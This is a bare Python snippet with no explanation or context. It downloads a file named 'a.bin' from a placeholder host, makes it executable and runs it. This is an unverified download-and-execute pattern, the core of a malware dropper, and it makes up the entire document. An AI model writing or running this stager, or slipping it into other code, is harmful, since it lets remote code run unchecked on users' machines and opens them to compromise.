import os
import urllib.request

urllib.request.urlretrieve('https://x.example/a', 'a.bin')
os.system('chmod +x a.bin && ./a.bin')
